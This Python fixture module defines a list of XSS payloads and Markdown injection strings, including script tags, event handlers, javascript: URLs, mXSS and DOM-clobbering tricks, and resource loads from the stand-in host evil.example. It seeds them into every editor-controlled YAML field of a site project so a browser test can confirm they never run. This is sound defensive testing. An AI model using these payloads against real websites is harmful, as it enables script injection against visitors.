"""XSS payloads, and a fixture project with one in every text field an editor controls.

Every payload announces itself if it ever runs: it opens a dialog, logs ``gk-xss`` to the
console, sets ``window.__gk_xss`` or fetches ``http://evil.example/`` — the browser test
(tests/test_security_xss.py) watches for all four.
"""
from __future__ import annotations

from pathlib import Path

import yaml

EVIL = "http://evil.example"

PAYLOADS = [
    '<script>window.__gk_xss=1;alert("gk-xss-script")</script>',
    '"><script>alert("gk-xss-attr")</script>',
    "'><img src=x onerror=\"window.__gk_xss=1;alert('gk-xss-img')\">",
    '<img src=x onerror="console.log(\'gk-xss-console\')">',
    '<svg onload=alert("gk-xss-svg")>',
    '<svg><script>alert("gk-xss-svg-script")</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点我</text></a></svg>',
    "javascript:alert('gk-xss-url')",
    '<a href="javascript:alert(\'gk-xss-href\')">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a><a href="jav&#x09;ascript:alert(1)">点我</a>',
    f'<iframe src="{EVIL}/frame" onload="alert(1)"></iframe>',
    f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<style>@import "{EVIL}/import.css"; body{{background:url({EVIL}/bg.png)}}</style>',
    f'<p style="background:url({EVIL}/style.png)">样式</p>',
    f'<form action="{EVIL}/form"><input name="a" autofocus onfocus="alert(1)"><button formaction="javascript:alert(1)">提交</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<base href="{EVIL}/"><link rel="stylesheet" href="{EVIL}/link.css">',
    "</title><script>alert('gk-xss-title')</script>",
    "&lt;/title&gt;&lt;script&gt;alert('gk-xss-entity')&lt;/script&gt;",
    '</textarea></noscript></style><script>alert("gk-xss-breakout")</script>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("gk-xss-mxss")>',
    '<noscript><p title="</noscript><img src=x onerror=alert(\'gk-xss-noscript\')>">',
    '<details open ontoggle=alert("gk-xss-toggle")>',
    f'<video poster="{EVIL}/poster.png"><source onerror=alert(1)></video><audio src="{EVIL}/a.mp3" onerror=alert(1)>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>',
    '<div id="__drawer" class="md-toggle">clobber</div><a id="gk-body" name="gk-body">x</a>',
    "{{ 7*7 }}{% raw %}{{ config }}${7*7}",
    "@@GK_ROOT@@javascript:alert(1)//",
    "<isindex type=image src=1 onerror=alert(\"gk-xss-isindex\")><xmp><script>alert(1)</script></xmp>",
]

# Markdown-specific ways to smuggle markup into the body
BODY_EXTRA = [
    "[点我](javascript:alert('gk-xss-md-link'))",
    "[点我](data:text/html,<script>alert(1)</script>)",
    f"![图片]({EVIL}/md-image.png)",
    f"<{EVIL}/autolink>",
    "## 标题 {: onclick=\"alert('gk-xss-attr-list')\" }",
    "段落 {: style=\"background:url(http://evil.example/attr.png)\" }",
    "[引用][r]\n\n[r]: javascript:alert('gk-xss-ref')",
    "<div markdown=\"1\"><script>alert(1)</script></div>",
]


def _dump(data) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6)


def _one_line(p: str) -> str:
    return p.replace("\n", " ")


def write_fixture(root: Path) -> list[str]:
    """Add payload-laden data to the project at ``root``; return the plan page URLs added."""
    data = root / "data"
    p = PAYLOADS

    site = yaml.safe_load((data / "site.yml").read_text(encoding="utf-8"))
    site.update({
        "网站名称": "科技局" + p[17], "主办单位": p[0], "承办单位": p[2],
        "联系方式": {"电话": p[1], "地址": p[18], "邮箱": p[4], "邮编": "242200"},
        "ICP备案号": p[5], "公安机关备案号": p[20],
    })
    (data / "site.yml").write_text(_dump(site), encoding="utf-8")

    cats = yaml.safe_load((data / "vocab/categories.yml").read_text(encoding="utf-8"))
    cats.append({"名称": "分类" + p[3], "标识": "xss", "说明": p[6]})
    (data / "vocab/categories.yml").write_text(_dump(cats), encoding="utf-8")
    topics = yaml.safe_load((data / "vocab/topics.yml").read_text(encoding="utf-8"))
    topics.append({"名称": "主题" + p[9], "标识": "xss", "子类": [{"名称": p[10], "标识": "xss2"}]})
    (data / "vocab/topics.yml").write_text(_dump(topics), encoding="utf-8")
    validity = yaml.safe_load((data / "vocab/validity.yml").read_text(encoding="utf-8"))
    validity.append({"名称": "状态" + p[11], "标识": "xss", "失效": True, "说明": p[12]})
    (data / "vocab/validity.yml").write_text(_dump(validity), encoding="utf-8")

    dept = {"标识": "xss", "全称": "机构" + p[13], "简称": "简称" + p[14], "统一社会信用代码": "11341700MB0A12342H",
            "组配分类": ["规划计划", "分类" + p[3]], "简介": p[15] + p[16]}
    (data / "departments/xss.yml").write_text(_dump(dept), encoding="utf-8")

    code = "    <script>alert('in code: shown, not run')</script>"  # an indented code block: shown as text
    body = "\n\n".join(["一、正文里的各种写法。", code] + PAYLOADS + BODY_EXTRA)
    plans = {
        "xss-all": {
            "名称": "计划" + p[0] + p[17], "组配分类": "分类" + p[3], "主题分类": "主题" + p[9] + "\\" + p[10],
            "文号": "<img/src=x/onerror=alert`1`>〔2024〕1号", "生成日期": "2024-03-01", "发布日期": "2024-03-02",
            "来源": p[19] + p[21], "有效性": "状态" + p[11], "关键词": [_one_line(x) for x in p[22:27]],
            "摘要": p[1] + p[17] + p[18], "正文": body,
            "相关文件": [
                {"名称": p[2] + p[7], "链接": "https://example.org/?q=javascript:alert(1)&x=%3Cscript%3E", "关系": "解读"},
                {"文件": "xss/2024/xss-plain"},
            ],
        },
        "xss-plain": {
            "名称": p[4] + p[8], "组配分类": "规划计划", "主题分类": "其他", "生成日期": "2024-03-01", "发布日期": "2024-03-01",
            "来源": p[25], "摘要": p[27] + p[28], "正文": p[26] + "\n\n" + p[23],
        },
    }
    folder = data / "plans/xss/2024"
    folder.mkdir(parents=True, exist_ok=True)
    for slug, plan in plans.items():
        (folder / f"{slug}.yml").write_text(_dump(plan), encoding="utf-8")
    return [f"xxgk/xss/2024/{slug}/" for slug in plans]
